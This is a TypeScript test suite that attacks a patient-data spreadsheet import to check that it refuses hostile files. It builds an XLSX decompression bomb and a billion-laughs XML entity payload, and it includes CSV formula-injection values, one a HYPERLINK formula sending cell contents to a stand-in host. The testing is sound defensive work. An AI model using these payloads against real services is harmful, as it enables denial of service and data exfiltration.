// Attacks on the import (issue 17) as an outsider with a department head's account would try them: XLSX
// decompression bombs (a sheet of whitespace deflated 1000:1; a cell at column XFD making every row 16,384
// wide), a CSV 600 columns wide, XML entities in an XLSX, formula cells in the downloaded report, and a
// job id of another department in every route. Each refusal leaves no job behind.
import { test, before, after } from 'node:test';
import { randomUUID } from 'node:crypto';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { sql } from 'kysely';
import { inTenantTransaction } from '../../src/db/connect.ts';
import { MAX_XLSX_UNPACKED } from '../../src/desk/import-parse.ts';
import { startHarness, setUpTenant, type Client, type Harness, type Tenant } from '../helpers/harness.ts';

let h: Harness;
let t: Tenant;
let INF: string;
let head: Client & { id: string };
let otherHead: Client & { id: string };

before(async () => {
  h = await startHarness();
  t = await setUpTenant(h);
  INF = t.departments.INF!;
  head = await t.user({ memberships: [{ departmentId: INF, role: 'head' }] });
  otherHead = await t.user({ memberships: [{ departmentId: t.departments.TB!, role: 'head' }] });
});
after(() => h.close());

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const upload = (by: Client, bytes: Buffer, type = XLSX) =>
  by.call('POST', `/api/departments/${INF}/imports`, bytes, { 'content-type': type });

async function jobCount() {
  return inTenantTransaction(h.services.store, t.tenantId, async (tx) =>
    Number((await sql<{ n: number }>`select count(*) as n from import_jobs`.execute(tx)).rows[0]!.n),
  );
}

/** A small valid workbook, its parts open for tampering. */
async function workbook(rows: string[][]) {
  const book = new ExcelJS.Workbook();
  const ws = book.addWorksheet('Personen');
  for (const r of rows) ws.addRow(r);
  return JSZip.loadAsync(Buffer.from(await book.xlsx.writeBuffer()));
}

const zipped = (zip: JSZip) =>
  zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 1 } });

test('an XLSX that unpacks past the limit (a sheet of whitespace, ~1000:1) is refused before exceljs loads it', async () => {
  const zip = await workbook([
    ['Nachname', 'Vorname', 'Geburtsdatum'],
    ['Bombe', 'Berta', '1970-01-01'],
  ]);
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  const at = sheet.indexOf('<sheetData>') + '<sheetData>'.length;
  const pad = Buffer.alloc(MAX_XLSX_UNPACKED + 4 * 1024 * 1024, 0x20);
  zip.file(
    'xl/worksheets/sheet1.xml',
    Buffer.concat([Buffer.from(sheet.slice(0, at)), pad, Buffer.from(sheet.slice(at))]),
  );
  const bomb = await zipped(zip);
  assert.ok(bomb.length < 2 * 1024 * 1024, `the bomb is small (${bomb.length} bytes)`);
  const before = await jobCount();
  const r = await upload(head, bomb);
  assert.equal(r.status, 422, JSON.stringify(r.body));
  assert.equal(r.body.errors[0].code, 'import-unreadable');
  assert.match(r.body.detail ?? r.body.errors[0].message ?? '', /unpacks to more than/);
  assert.equal(await jobCount(), before);
});

test('an XLSX with one cell at column XFD (16,384 wide) and many rows is refused, not walked cell by cell', async () => {
  const rows = [['Nachname', 'Vorname', 'Geburtsdatum']];
  for (let i = 0; i < 20_000; i++) rows.push([`Breit${i}`, 'Bernd', '1970-01-01']);
  const zip = await workbook(rows);
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  // Row 1 gets one more cell, at the last column Excel has.
  const wide = sheet.replace(
    /(<row r="1"[^>]*>)([\s\S]*?)(<\/row>)/,
    '$1$2<c r="XFD1" t="inlineStr"><is><t>x</t></is></c>$3',
  );
  assert.notEqual(wide, sheet);
  zip.file('xl/worksheets/sheet1.xml', wide.replace(/ spans="[^"]*"/g, ''));
  const before = await jobCount();
  const r = await upload(head, await zipped(zip));
  assert.equal(r.status, 422, JSON.stringify(r.body));
  assert.equal(r.body.errors[0].code, 'import-unreadable');
  assert.equal(await jobCount(), before);
});

test('a CSV with more columns than a mapping can name (600) is refused', async () => {
  const headRow = Array.from({ length: 600 }, (_, i) => `S${i}`).join(';');
  const r = await upload(head, Buffer.from(`${headRow}\nBreit;Bernd;01.01.1970\n`), 'text/csv');
  assert.equal(r.status, 422, JSON.stringify(r.body));
  assert.equal(r.body.errors[0].code, 'import-unreadable');
});

test('XML entities in an XLSX (billion laughs in the shared strings) are not expanded', async () => {
  const zip = await workbook([
    ['Nachname', 'Vorname', 'Geburtsdatum'],
    ['Lacher', 'Lotte', '1970-01-01'],
  ]);
  const lol = Array.from({ length: 9 }, (_, i) =>
    i === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
  ).join('');
  const name = Object.keys(zip.files).find((n) => n.endsWith('sharedStrings.xml'));
  if (name) {
    const ss = await zip.file(name)!.async('string');
    zip.file(name, ss.replace('?>', `?><!DOCTYPE sst [${lol}]>`).replace('Lacher', '&l8;'));
  } else {
    const s = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
    zip.file('xl/worksheets/sheet1.xml', s.replace('?>', `?><!DOCTYPE worksheet [${lol}]>`).replace('Lacher', '&l8;'));
  }
  const r = await upload(head, await zipped(zip));
  // Either refused as unreadable, or read without the entity expanded; never 10^8 "lol"s.
  if (r.status === 201) assert.ok(JSON.stringify(r.body).length < 100_000, 'the entity was not expanded');
  else assert.equal(r.status, 422, JSON.stringify(r.body));
});

test('the report never carries a cell of the file: formulas in a name stay out of the downloaded CSV', async () => {
  const evil = ['=HYPERLINK("http://x.example/?"&A1;"klick")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
  const lines = ['Nachname;Vorname;Geburtsdatum'];
  for (const e of evil) lines.push(`"${e.replace(/"/g, '""')}";Eva;01.02.1960`);
  const up = await upload(head, Buffer.from(lines.join('\n')), 'text/csv');
  assert.equal(up.status, 201, JSON.stringify(up.body));
  const dry = await head.post(`/api/imports/${up.body.id}/dry-run`, {
    version: up.body.version,
    mapping: { person: { familyName: 0, givenName: 1, birthDate: 2 } },
  });
  assert.equal(dry.status, 200, JSON.stringify(dry.body));
  const report = await head.get(`/api/imports/${up.body.id}/report`);
  assert.equal(report.status, 200);
  const text = report.raw.toString('utf8');
  for (const line of text
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .slice(1)
    .filter(Boolean))
    assert.match(
      line,
      /^\d+;[a-z:-]+;[a-z-]*;[0-9a-f-]*;[0-9a-f-]*$/,
      `a report line holds only numbers, codes and ids: ${line}`,
    );
  // Another department's head learns nothing of the job by its id (404, like a missing one).
  for (const url of [
    `/api/imports/${up.body.id}`,
    `/api/imports/${up.body.id}/report`,
    `/api/imports/${up.body.id}/rows`,
  ])
    assert.equal((await otherHead.get(url)).status, 404, url);
});

/** A workbook whose first sheet is `rowsXml` (the `<row>` elements), built straight as XML. */
async function sheetOf(rowsXml: string) {
  const zip = await workbook([['Nachname', 'Vorname', 'Geburtsdatum']]);
  const sheet = await zip.file('xl/worksheets/sheet1.xml')!.async('string');
  zip.file(
    'xl/worksheets/sheet1.xml',
    sheet
      .replace(/<sheetData>[\s\S]*<\/sheetData>/, `<sheetData>${rowsXml}</sheetData>`)
      .replace(/<dimension[^>]*\/>/, ''),
  );
  return zipped(zip);
}
const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
const header = `<row r="1">${inline('A1', 'Nachname')}${inline('B1', 'Vorname')}${inline('C1', 'Geburtsdatum')}`;

test('an XLSX 500 columns wide with 210,000 one-cell rows is refused as too many rows, without a cell object per column', async () => {
  const rows = [`${header}${inline('SF1', 'Letzte')}</row>`];
  for (let n = 2; n <= 210_001; n++) rows.push(`<row r="${n}">${inline(`A${n}`, 'x')}</row>`);
  const r = await upload(head, await sheetOf(rows.join('')));
  assert.equal(r.status, 422, JSON.stringify(r.body).slice(0, 500));
  assert.equal(r.body.errors[0].code, 'import-too-many-rows');
});

test('an XLSX row numbered past Excel’s last (1,048,576) is refused, not padded up to it', async () => {
  const r = await upload(
    head,
    await sheetOf(
      `${header}</row><row r="2">${inline('A2', 'Weit')}</row><row r="999999999">${inline('A999999999', 'Fern')}</row>`,
    ),
  );
  assert.equal(r.status, 422, JSON.stringify(r.body).slice(0, 500));
  assert.equal(r.body.errors[0].code, 'import-unreadable');
});

test('an XLSX with rows far apart reads its rows under their spreadsheet numbers', async () => {
  const r = await upload(
    head,
    await sheetOf(
      `${header}</row><row r="2">${inline('A2', 'Nah')}</row><row r="900000">${inline('A900000', 'Fern')}</row>`,
    ),
  );
  assert.equal(r.status, 201, JSON.stringify(r.body).slice(0, 500));
  assert.deepEqual(
    r.body.preview.map((p: { rowNumber: number; cells: string[] }) => [p.rowNumber, p.cells[0]]),
    [
      [2, 'Nah'],
      [900000, 'Fern'],
    ],
  );
});

test('two rows with one DICOM Patient ID but a differently spelt name make one file, not two (in one batch and across batches)', async () => {
  for (const batchSize of [1000, 1]) {
    const pid = `PAT-${randomUUID().slice(0, 8)}`;
    const csv = [
      'Nachname;Vorname;Geburtsdatum;PatientID',
      `Meier${batchSize};Maria;03.04.1951;${pid}`,
      `Meyer${batchSize};Maria;03.04.1951;${pid}`,
    ].join('\n');
    const up = await upload(head, Buffer.from(csv), 'text/csv');
    assert.equal(up.status, 201, JSON.stringify(up.body));
    const dry = await head.post(`/api/imports/${up.body.id}/dry-run`, {
      version: up.body.version,
      mapping: { person: { familyName: 0, givenName: 1, birthDate: 2, dicomPatientId: 3 } },
    });
    assert.equal(dry.status, 200, JSON.stringify(dry.body));
    assert.deepEqual(dry.body.counts, { created: 1, matched: 1, refused: 0 });
    h.services.imports.batchSize = batchSize;
    try {
      const started = await head.post(`/api/imports/${up.body.id}/start`, { version: dry.body.version });
      assert.equal(started.status, 202, JSON.stringify(started.body));
      await h.services.imports.running(up.body.id)?.catch(() => undefined);
    } finally {
      h.services.imports.batchSize = 1000;
    }
    const rows = (await head.get(`/api/imports/${up.body.id}/rows`)).body.items as {
      outcome: string;
      reason: string | null;
      personId: string;
    }[];
    assert.deepEqual(
      rows.map((r) => [r.outcome, r.reason]),
      [
        ['created', null],
        ['matched', 'earlier-row'],
      ],
    );
    assert.equal(rows[0]!.personId, rows[1]!.personId, 'one file for both rows');
  }
});

test('two dry runs of one version at the same moment: one is kept, the other is 409 — never a 500, never rows of both', async () => {
  const lines = ['Nachname;Vorname;Geburtsdatum;Zweitname'];
  for (let i = 0; i < 300; i++) lines.push(`Parallel${i};Paula;01.01.1960;${i % 2 ? '' : 'X'}`);
  const up = await upload(head, Buffer.from(lines.join('\n')), 'text/csv');
  assert.equal(up.status, 201, JSON.stringify(up.body));
  const [a, b] = await Promise.all([
    head.post(`/api/imports/${up.body.id}/dry-run`, {
      version: up.body.version,
      mapping: { person: { familyName: 0, givenName: 1, birthDate: 2 } },
    }),
    head.post(`/api/imports/${up.body.id}/dry-run`, {
      version: up.body.version,
      mapping: { person: { familyName: 0, givenName: 3, birthDate: 2 } },
    }),
  ]);
  assert.deepEqual(
    [a.status, b.status].sort(),
    [200, 409],
    `${a.status} ${b.status} ${JSON.stringify([a.body, b.body]).slice(0, 400)}`,
  );
  const kept = a.status === 200 ? a.body : b.body;
  const total = (await head.get(`/api/imports/${up.body.id}/rows?limit=1`)).body.total;
  assert.equal(total, 300);
  const job = (await head.get(`/api/imports/${up.body.id}`)).body;
  assert.deepEqual(job.counts, kept.counts);
  assert.deepEqual(job.mapping, kept.mapping);
});

test('odd CSV: 10^6 empty lines, NUL bytes, a BOM in the middle, Windows-1252 mixed into UTF-8 — read or refused per row, never a 500', async () => {
  const empty = Buffer.concat([
    Buffer.from('Nachname;Vorname;Geburtsdatum\n'),
    Buffer.alloc(1_000_000 * 3, ';;\n'),
    Buffer.from('Leerzeile;Lena;02.02.1962\n'),
  ]);
  const a = await upload(head, empty, 'text/csv');
  assert.equal(a.status, 201, JSON.stringify(a.body).slice(0, 300));
  assert.equal(a.body.rowCount, 1);
  const odd = Buffer.concat([
    Buffer.from('Nachname;Vorname;Geburtsdatum\n'),
    Buffer.from('Nul\u0000mann;Nina;03.03.1963\n'),
    Buffer.from('\uFEFFBommann;Bea;04.04.1964\n'),
    Buffer.from('Gr'),
    Buffer.from([0xfc]), // ü in Windows-1252, not UTF-8
    Buffer.from('n;Gustav;05.05.1965\n'),
  ]);
  const b = await upload(head, odd, 'text/csv');
  assert.equal(b.status, 201, JSON.stringify(b.body).slice(0, 300));
  const dry = await head.post(`/api/imports/${b.body.id}/dry-run`, {
    version: b.body.version,
    encoding: 'utf-8',
    mapping: { person: { familyName: 0, givenName: 1, birthDate: 2 } },
  });
  assert.equal(dry.status, 200, JSON.stringify(dry.body).slice(0, 300));
  const rows = (await head.get(`/api/imports/${b.body.id}/rows`)).body.items as {
    planned: string;
    plannedReason: string;
  }[];
  assert.equal(rows.length, 3);
  assert.equal(rows[2]!.plannedReason, 'encoding-invalid', 'the Windows-1252 byte is named for its row');
  // Imported: the NUL and BOM rows become files (their names sealed), the bad byte's row is refused.
  const started = await head.post(`/api/imports/${b.body.id}/start`, { version: dry.body.version });
  assert.equal(started.status, 202, JSON.stringify(started.body));
  await h.services.imports.running(b.body.id)?.catch(() => undefined);
  const done = (await head.get(`/api/imports/${b.body.id}`)).body;
  assert.equal(done.state, 'done', JSON.stringify(done).slice(0, 300));
  assert.deepEqual(done.counts, { created: 2, matched: 0, refused: 1 });
});
